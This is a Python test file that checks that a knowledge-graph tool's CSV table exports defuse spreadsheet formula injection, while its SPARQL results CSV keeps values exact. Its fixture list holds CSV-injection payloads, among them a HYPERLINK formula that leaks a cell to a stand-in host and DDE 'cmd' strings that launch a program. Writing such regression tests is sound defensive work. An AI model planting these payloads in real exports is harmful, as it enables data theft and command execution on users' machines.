"""CSV table exports are safe to open in a spreadsheet; SPARQL results CSV stays exact.

Issue 11, finding 14: a label such as ``=HYPERLINK(…)`` was written raw into the table
exports, where a spreadsheet runs it as a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

import netgov_kg
from netgov_kg.cli import main
from netgov_kg.namespaces import NGR
from netgov_kg.query.formats import write_solutions

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
NUMBERS = {"negative": "-12", "signed": "+7", "decimal": "-0.5", "exponent": "-1.5e3"}

TTL = """@prefix ng: <https://w3id.org/netgov-kg/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
"""


def _literal(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    return '"' + escaped.replace("\r", "\\r") + '"'


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "hostile.ttl"
    lines = [TTL]
    for name, text in {**HOSTILE, **NUMBERS}.items():
        lines.append(f"<{NGR['case/' + name]}> a ng:Case ; rdfs:label {_literal(text)}@zh ;"
                     f" ng:note {_literal(text)} .")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(hostile_file):
    return netgov_kg.load(hostile_file, include_data=False)


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {r["id"].rsplit("/", 1)[1]: r for r in csv.DictReader(io.StringIO(text))}


def _check(rows: dict[str, dict[str, str]]) -> None:
    for name, text in HOSTILE.items():
        assert rows[name]["label_zh"] == "'" + text, name
        assert rows[name]["note"] == "'" + text, name
    for name, text in NUMBERS.items():
        assert rows[name]["label_zh"] == text, name
    assert rows["equals"]["id"] == str(NGR["case/equals"])


def test_table_export_neutralises_formulas_in_a_folder(hostile, tmp_path):
    hostile.export(tmp_path / "tables", format="csv")
    with open(tmp_path / "tables" / "cases.csv", encoding="utf-8", newline="") as f:
        _check(_rows(f.read()))


def test_table_export_neutralises_formulas_in_a_zip(hostile, tmp_path):
    hostile.export(tmp_path / "tables.zip")
    with zipfile.ZipFile(tmp_path / "tables.zip") as z:
        _check(_rows(z.read("cases.csv").decode("utf-8")))


def test_cli_export_neutralises_formulas(hostile_file, tmp_path, capsys):
    assert main(["export", str(tmp_path / "t.zip"), "--load", str(hostile_file)]) == 0
    with zipfile.ZipFile(tmp_path / "t.zip") as z:
        _check(_rows(z.read("cases.csv").decode("utf-8")))


def test_sparql_results_csv_stays_exact(hostile_file, capsys):
    """``query --format csv`` writes the W3C SPARQL 1.1 results CSV: values as they are."""
    query = "SELECT ?c ?l WHERE { ?c a ng:Case ; rdfs:label ?l } ORDER BY ?c"
    assert main(["query", query, "--format", "csv", "--load", str(hostile_file)]) == 0
    out = capsys.readouterr().out
    values = {r["c"].rsplit("/", 1)[1]: r["l"] for r in csv.DictReader(io.StringIO(out))}
    expected = {**HOSTILE, **NUMBERS}
    assert {k: v for k, v in values.items() if k in expected} == expected


def test_server_csv_writer_stays_exact():
    text = HOSTILE["equals"]
    body = write_solutions("csv", ["l"], [{"l": ("literal", text, None, None)}]).decode()
    assert next(csv.reader(io.StringIO(body.splitlines()[1])))[0] == text
